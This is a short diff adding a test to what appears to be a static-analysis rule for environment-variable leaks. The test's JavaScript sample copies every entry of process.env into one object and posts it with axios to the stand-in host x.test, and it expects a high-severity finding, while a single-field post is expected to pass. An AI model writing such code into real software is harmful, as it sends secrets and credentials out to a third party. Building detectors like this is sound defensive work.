@@ -34,3 +34,9 @@ def test_variants(look, source):
 )
 def test_near_misses(look, source):
     assert look(RULE, source) == []
+
+
+def test_copied_one_by_one(look):
+    loop = "const all = {}; for (const k in process.env) all[k] = process.env[k];\n"
+    assert [fact[1:3] for fact in look(RULE, loop + 'axios.post("https://x.test/a", all);')] == [("HIGH", "HIGH")]
+    assert look(RULE, loop + 'axios.post("https://x.test/a", { mode: all.MODE });') == []
